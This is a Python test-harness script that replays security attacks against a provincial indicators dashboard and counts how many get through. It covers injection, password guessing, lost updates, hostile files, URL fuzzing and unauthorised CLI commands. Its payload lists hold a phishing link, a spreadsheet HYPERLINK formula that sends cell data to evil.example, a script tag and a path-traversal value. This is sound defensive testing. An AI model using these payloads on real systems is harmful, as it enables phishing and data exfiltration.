"""The attacks of issue 12, replayed: per category, how many attempts were made and how many got through.
Run by bench/reliability.py (its "security" rows); every count of "through" must be 0.

- markdown/HTML injection: hostile texts planted in every field that comes from data, every page rendered
  (AppTest); through = a link, image or element made from planted text, or raw HTML in a chart.
- password guessing: attempts on one account from fresh sessions, at full speed; through = a guess checked while
  the account is throttled (or the right password accepted then); also the checked guesses in a simulated hour.
- lost updates: preview a change, another analyst writes the figure, confirm; through = the confirm succeeded.
- hostile files: lying dimensions, carriage-return-only rows, broken sheet XML, non-ASCII digits, formulas
  without values, oversize; through = any file not refused, or an exception.
- URL-parameter fuzzing: every query parameter of every page with hostile values; through = an exception.
- unauthenticated writing commands: every CLI command that writes, without a password, with a wrong one, or
  as a role that may not; through = exit status 0.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import date, timedelta
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
PAYLOADS = [
    "[Phiên đăng nhập hết hạn – bấm để đăng nhập lại](https://evil.example)",
    "![x](http://host.example/pixel)",
    ":red[**CẢNH BÁO: số liệu sai**]",
    '<a href="https://evil.example">x</a> <b>đậm</b> <img src="http://host.example/p">',
    "https://evil.example/raw www.evil.example",
    "# Tiêu đề\n\n* mục\n\n```\ncode\n```",
    "$\\frac{1}{0}$ :material/warning: :smile: ~~gạch~~ __đậm__ `mã`",
    "&lt;a href=x&gt; &#60;b&#62;",
    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
]
MARKERS = ("evil.example", "host.example", "CẢNH BÁO", "đậm", "Tiêu đề", "gạch", "frac", "&lt;", "HYPERLINK", "mã")


def _tags(html: str) -> list[str]:
    return sorted(re.findall(r"<(\w+)", html))


def injection(work: Path, base: Path) -> tuple[int, int]:
    """(attempts, through): every payload in every data field, every page and tab rendered."""
    from markdown_it import MarkdownIt
    from streamlit.testing.v1 import AppTest

    from indicators.domain.plain import md
    from indicators.storage import open_store
    from indicators.web import cache, ui

    render = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render
    pages = [("pages/overview.py", {"province": "42@2025"}), ("pages/overview.py", {}),
             ("pages/profile.py", {"province": "42@2004"}), ("pages/profile.py", {"province": "42@2004",
                                                                                  "tab": "targets"}),
             ("pages/compare.py", {}), ("pages/compare.py", {"tab": "ranks"}), ("pages/rankings.py", {}),
             ("pages/rankings.py", {"view": "table"}), ("pages/rankings.py", {"view": "map"}),
             ("pages/plans.py", {}), ("pages/data.py", {})]
    attempts = through = 0
    for number, payload in enumerate(PAYLOADS):
        db = work / f"inject-{number}.duckdb"
        shutil.copyfile(base, db)
        store = open_store(db)
        store.connection.execute("UPDATE actual SET source = ?, note = ?", [payload, payload])
        store.connection.execute("UPDATE import_batch SET source = ?, file_name = ?", [payload, payload + ".csv"])
        store.connection.execute("UPDATE national_value SET source = ?", [payload])
        store.connection.execute("UPDATE plan SET title = ?, source_file = ?", [payload, payload])
        store.connection.execute("UPDATE target SET source_quote = ?, note = ?", [payload, payload])
        store.connection.execute("UPDATE task SET task = ?, lead_body = ?, partners = ?", [payload, payload, payload])
        store.connection.execute("UPDATE app_user SET display_name = ?", [payload])
        store.close()
        os.environ["KPI_DB"] = str(db)
        cache.clear_caches(store=True)  # the payloads were planted without the engine: no data version moved
        for page, params in pages:
            at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
            for name, value in {"lang": "en", **params}.items():
                at.query_params[name] = value
            if page != "pages/overview.py":
                at.run()
            at.switch_page(page)
            at = at.run()
            attempts += 1
            texts = [e.value for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader")
                     for e in getattr(at, kind)] + [m.proto.help for m in at.metric] + [m.label for m in at.metric]
            bad = bool(at.exception)
            for text in texts:
                if isinstance(text, str) and any(m in text for m in MARKERS):
                    out = render(text)
                    bad |= bool(re.search(r"<(a|img)\b", out))
                    bad |= _tags(out) != _tags(render(text.replace(md(payload), "PLANTED")))
            for chart in at.get("plotly_chart"):
                bad |= bool(re.search(r"<(a|img|b>đậm)", chart.proto.spec))
            for frame in at.dataframe:
                for column in frame.value.columns:
                    bad |= any(isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for c in frame.value[column])
            through += bad
        ui.get_store().close()
        ui.get_store.clear()
    return attempts, through


def guessing(work: Path, base: Path, attempts: int) -> tuple[int, int, int]:
    """(attempts, through, checked in a simulated hour) against one account."""
    from indicators.services import auth
    from indicators.storage import open_store

    db = work / "guess.duckdb"
    shutil.copyfile(base, db)
    through = 0
    for n in range(attempts):
        store = open_store(db)  # a new session, a new process: nothing of the throttle lives outside the file
        throttled = auth.wait_before_sign_in(store, "lan") > 0
        try:
            auth.authenticate(store, "lan", "reliability-password" if n == attempts - 1 else f"guess {n}")
            through += throttled  # the right password accepted while throttled
        except auth.SignInRefused as refused:
            through += throttled and refused.wait == 0  # a throttled attempt that was checked
        store.close()
    clock = [auth._now()]
    real = auth._now
    auth._now = lambda: clock[0]
    checked = 0
    try:
        store = open_store(db)
        store.connection.execute("DELETE FROM audit_event")
        end = clock[0] + timedelta(hours=1)
        while clock[0] < end:
            clock[0] += timedelta(seconds=auth.wait_before_sign_in(store, "lan"))
            try:
                auth.authenticate(store, "lan", "guess")
            except auth.SignInRefused:
                pass
            checked += 1
        store.close()
    finally:
        auth._now = real
    return attempts, through, checked


def lost_updates(work: Path, base: Path, trials: int) -> tuple[int, int]:
    from indicators import imports
    from indicators.domain.registry import Registry
    from indicators.services.auth import User
    from indicators.storage import open_store

    db = work / "lost.duckdb"
    shutil.copyfile(base, db)
    store = open_store(db)
    registry, catalogue = Registry(store.provinces(), store.province_aliases()), store.indicators()
    lan, minh = User("lan", "lan", "analyst"), User("admin", "admin", "admin")

    def file(value: float, year: int) -> bytes:
        return f"province,indicator,period,value,source\nHà Tĩnh,sipas,{year},{value},BC\n".encode()

    through = 0
    for n in range(trials):
        year = 2018 + n % 7
        imports.commit(store, imports.preview(store, "a.csv", file(10 + n, year), imports.Context(registry, catalogue)),
                       minh,
                        replace=True)
        mine = imports.preview(store, "mine.csv", file(50 + n, year), imports.Context(registry, catalogue))
        imports.commit(store, imports.preview(store, "b.csv", file(30 + n, year), imports.Context(registry, catalogue)),
                       minh,
                        replace=True)
        try:
            imports.commit(store, mine, lan, replace=True)
            through += 1
        except imports.ConflictError:
            pass
    store.close()
    return trials, through


def hostile_files(work: Path, base: Path) -> tuple[int, int]:
    import openpyxl

    from indicators import imports
    from indicators.domain.registry import Registry
    from indicators.imports.table import Limits
    from indicators.storage import open_store

    header = ["province", "indicator", "period", "value", "source"]

    def book(rows, dimension=None, mangle=None) -> bytes:
        workbook = openpyxl.Workbook()
        for row in rows:
            workbook.active.append(row)
        buffer = io.BytesIO()
        workbook.save(buffer)
        source, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    if dimension:
                        data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
                    if mangle:
                        data = mangle(data)
                    if data is None:
                        continue
                target.writestr(item, data)
        return out.getvalue()

    row = ["Hà Tĩnh", "sipas", "2023", 80, "BC"]
    small = Limits(max_rows=100)
    cases = [
        ("lying dimension, 300 rows, limit 100", book([header] + [row] * 300, "A1:E2"), small, None),
        ("lying dimension, 6 rows read as 6", book([header] + [[*row[:2], str(y), 80, "BC"] for y in range(2018, 2024)],
                                                   "A1:E3"), None, 6),
        ("carriage-return-only CSV over the limit", ("\r".join([",".join(header)] + ["Hà Tĩnh,sipas,2023,80,BC"] * 300)
                                                     ).encode(), small, None),
        ("truncated sheet XML", book([header, row], mangle=lambda d: d[: len(d) // 2]), None, None),
        ("invalid sheet XML", book([header, row], mangle=lambda d: d.replace(b"</v>", b"</x>", 1)), None, None),
        ("missing sheet part", book([header, row], mangle=lambda d: None), None, None),
        ("full-width digits", ("\n".join([",".join(header), "Hà Tĩnh,sipas,2023,８５,BC"])).encode(), None, None),
        ("Arabic-Indic digits", book([header, [*row[:3], "٨٥", "BC"]]), None, None),
        ("formula without a saved value", book([header, [*row[:3], "=1+1", "BC"]]), None, None),
        ("over the size limit", b"province,indicator,period,value,source\n" + b"x" * (11 * 1024 * 1024), None, None),
    ]
    db = work / "files.duckdb"
    shutil.copyfile(base, db)
    store = open_store(db)
    registry, catalogue = Registry(store.provinces(), store.province_aliases()), store.indicators()
    through = 0
    for name, content, limits, rows_expected in cases:
        file_name = "f.csv" if content.startswith(b"province") else "f.xlsx"
        try:
            context = imports.Context(registry, catalogue, today=date.today(), **{"limits": limits} if limits else {})
            result = imports.preview(store, file_name, content, context)
            ok = result.counts["insert"] == rows_expected if rows_expected else not result.ok
        except Exception as error:  # noqa: BLE001 - an exception is an attack that got through
            print(f"    {name}: {type(error).__name__}: {error}", file=sys.stderr)
            ok = False
        if not ok:
            print(f"    got through: {name}", file=sys.stderr)
        through += not ok
    store.close()
    return len(cases), through


FUZZ = ["²", "①", "٨٥", "８５", "-1", "99999999999999999999", "2024-²", "2030-2020", "", "[x](https://evil.example)",
        "<script>alert(1)</script>", "\x00", "NaN", "1e309", ",,,", "🔥" * 40, "x" * 5000, "42@2025," * 20, "../../etc"]
PARAMS = {"pages/overview.py": ["province", "year"], "pages/profile.py": ["province", "tab", "indicator", "papi_year"],
          "pages/compare.py": ["provinces", "indicators", "tab", "rank"],
          "pages/rankings.py": ["indicator", "year", "province", "view"],
          "pages/plans.py": ["provinces", "families", "status", "deadline"], "pages/data.py": ["plan"],
          "pages/imports.py": ["tab"]}


def url_fuzzing(work: Path, base: Path) -> tuple[int, int]:
    from streamlit.testing.v1 import AppTest

    from indicators.web import cache, ui

    db = work / "fuzz.duckdb"
    shutil.copyfile(base, db)
    os.environ["KPI_DB"] = str(db)
    cache.clear_caches(store=True)
    attempts = through = 0
    for page, names in PARAMS.items():
        for name in names + ["lang"]:
            for value in FUZZ:
                at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
                at.query_params[name] = value
                at.switch_page(page)
                at = at.run()
                attempts += 1
                through += bool(at.exception)
    ui.get_store().close()
    ui.get_store.clear()
    return attempts, through


def writing_commands(work: Path, base: Path) -> tuple[int, int]:
    db = work / "commands.duckdb"
    shutil.copyfile(base, db)
    good = work / "good.csv"
    good.write_text("province,indicator,period,value,source\nHà Tĩnh,sipas,2023,80,BC\n", encoding="utf-8")
    commands = [["build"], ["backup", str(work / "b.duckdb")], ["restore", str(db)], ["import", str(good)],
                ["undo", "1"], ["lock", "42", "2024"], ["unlock", "42", "2024"], ["users", "add", "eve", "--role",
                                                                                  "admin"],
                ["users", "set", "lan", "--role", "admin"], ["users", "audit"]]
    who = [({"KPI_USER": "lan", "KPI_PASSWORD": "reliability-password"}, "an analyst"), ({}, "no password"),
           ({"KPI_USER": "admin", "KPI_PASSWORD": "wrong password!"}, "a wrong admin password")]
    attempts = through = 0
    clean = {k: v for k, v in os.environ.items() if not k.startswith("KPI_")}
    for command in commands:
        for extra, role in who:
            if role == "an analyst" and command[0] in ("import", "undo"):
                continue  # analysts may import and undo their own batches
            done = subprocess.run([sys.executable, "-m", "indicators", *command, "--db", str(db)], cwd=REPO,
                                  capture_output=True, text=True, stdin=subprocess.DEVNULL,
                                  env={**clean, "KPI_NEW_PASSWORD": "attacker password 1", **extra})
            attempts += 1
            if done.returncode == 0 or "Traceback" in done.stderr:
                print(f"    got through: {command} with {role}: {done.stderr[:200]}", file=sys.stderr)
                through += 1
    return attempts, through


# --- the security report (issue 25): every category of attack, replayed on both backends ---------------------------
# Each attack is replayed by tests that perform it and assert that it is refused; the report runs them on the
# embedded DuckDB and on a throwaway PostgreSQL cluster and counts, per category, the replays and how many got through
# (a replay that failed). A category is (label, test file, a pattern of the test names it holds); the first that
# matches a test takes it, and a test of an attack file that none names is listed under its file, never dropped.
CATEGORIES = [
    ("F1 a reporter moves itself to another unit or changes its role", "test_attacks_accounts",
     r"unit|own_password"),
    ("F5 parallel password guesses, lock-out of the owner, unlock", "test_attacks_accounts", r"."),
    ("F2 a reporter defines or reshapes index criteria", "test_attacks_unit_index",
     r"own_self_scores|still_enters|role_held|analyst_still"),
    ("F4 a reporter's criteria-only file", "test_attacks_unit_index", r"criteria_only"),
    ("F13 quadratic checks of unit-index files", "test_attacks_unit_index", r"."),
    ("F3 undo by a demoted analyst or a moved reporter", "test_attacks_undo", r"."),
    ("F6 a disk that fills up during an import", "test_attacks_imports", r"disk|invalidated"),
    ("F11 a killed .xlsx reading process", "test_attacks_imports", r"killed|dies"),
    ("F9 any cell of any type in any column of an .xlsx", "test_attacks_imports", r"."),
    ("F7 credentials and connection details in messages", "test_attacks_postgres",
     r"url|message|unreachable|anonymous|admin_reads"),
    ("F15 the app role's privileges on the record", "test_attacks_postgres", r"."),
    ("F8 report downloads starting a browser per click", "test_attacks_reports", r"."),
    ("F10 hostile URL parameters", "test_attacks_urls", r"."),
    ("F12 report -o overwriting or mislabelling a file", "test_attacks_cli", r"."),
    ("F14 circular unit successors", "test_attacks_units", r"."),
    ("F15 bidirectional and other control characters", "test_attacks_text", r"."),
    ("earlier: password guessing and sessions", "test_hardening", r"sign_in|guess|token|password"),
    ("earlier: lost updates", "test_hardening", r"preview|changed_since"),
    ("earlier: hostile files", "test_hardening", r"xlsx|csv|sheet|header|digits|formula|disk"),
    ("earlier: writing commands without the role", "test_hardening", r"admin|build|damaged|lock"),
    ("earlier: markdown, HTML and formula injection", "test_hardening", r"."),
    ("earlier: injection and hostile parameters on the pages", "test_hardening_pages", r"."),
    ("earlier: injection in the browser, sessions across browsers", "test_browser_hardening", r"."),
]
REPORT_FILES = sorted({f"tests/{file}.py" for _, file, _ in CATEGORIES})


def _category(file: str, test: str) -> str:
    return next((label for label, name, pattern in CATEGORIES if name == file and re.search(pattern, test)),
                f"other replays in {file}")


def replay(backend: str, quick: bool, work: Path) -> dict[str, list[tuple[str, str]]]:
    """Run every replay on ``backend``: category → [(test, outcome)], outcome one of passed, THROUGH, skipped."""
    import xml.etree.ElementTree as ElementTree

    report = work / f"replays-{backend}.xml"
    command = [sys.executable, "-m", "pytest", *REPORT_FILES, "-q", "-p", "no:cacheprovider",
               f"--junitxml={report}", f"--backend={backend}", *(["-m", "not slow"] if quick else [])]
    subprocess.run(command, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    found: dict[str, list[tuple[str, str]]] = {}
    for case in ElementTree.parse(report).iter("testcase"):
        file, test = case.get("classname", "").rsplit(".", 1)[-1], case.get("name", "")
        outcome = ("THROUGH" if case.find("failure") is not None or case.find("error") is not None
                   else "skipped" if case.find("skipped") is not None else "passed")
        found.setdefault(_category(file, test), []).append((test, outcome))
        SECONDS[backend][_category(file, test)] = SECONDS[backend].get(_category(file, test), 0.0) + float(
            case.get("time") or 0)
    return found


SECONDS: dict[str, dict[str, float]] = {"duckdb": {}, "postgresql": {}}


def main(argv: list[str] | None = None) -> int:
    import argparse
    import tempfile

    parser = argparse.ArgumentParser(description="The security report: every attack replayed, per backend.")
    parser.add_argument("--quick", action="store_true", help="leave out the browser replays (marked slow)")
    parser.add_argument("--backend", choices=["duckdb", "postgresql", "both"], default="both")
    parser.add_argument("--verbose", action="store_true", help="list every replay, not only the counts")
    args = parser.parse_args(argv)
    backends = ["duckdb", "postgresql"] if args.backend == "both" else [args.backend]
    through_total = replays_total = 0
    with tempfile.TemporaryDirectory(prefix="kpi-security-") as work:
        results = {backend: replay(backend, args.quick, Path(work)) for backend in backends}
    labels = [label for label, _, _ in CATEGORIES] + sorted(
        {c for found in results.values() for c in found} - {label for label, _, _ in CATEGORIES})
    print(f"{'category':<62} " + " ".join(f"{b + ' (tried/through/skipped)':>36}" for b in backends))
    for label in labels:
        cells = []
        for backend in backends:
            cases = results[backend].get(label, [])
            through = sum(o == "THROUGH" for _, o in cases)
            skipped = sum(o == "skipped" for _, o in cases)
            tried = len(cases) - skipped
            replays_total += tried
            through_total += through
            cells.append(f"{tried:>20} / {through} / {skipped}")
        print(f"{label:<62} " + " ".join(f"{c:>36}" for c in cells))
        if args.verbose:
            for backend in backends:
                for test, outcome in results[backend].get(label, []):
                    print(f"    [{backend}] {outcome:<8} {test}")
    for backend in backends:
        for label, cases in results[backend].items():
            for test, outcome in cases:
                if outcome == "THROUGH":
                    print(f"GOT THROUGH [{backend}] {label}: {test}")
    for backend in backends:
        slowest = sorted(SECONDS[backend].items(), key=lambda kv: -kv[1])[:5]
        print(f"[{backend}] the longest categories: " + "; ".join(f"{label} {sec:.0f} s" for label, sec in slowest))
    print(f"{replays_total} replays on {len(backends)} backend(s), {through_total} got through")
    if replays_total == 0:
        print("no replay ran: the report proves nothing", file=sys.stderr)
        return 1
    return 1 if through_total else 0


if __name__ == "__main__":
    sys.exit(main())
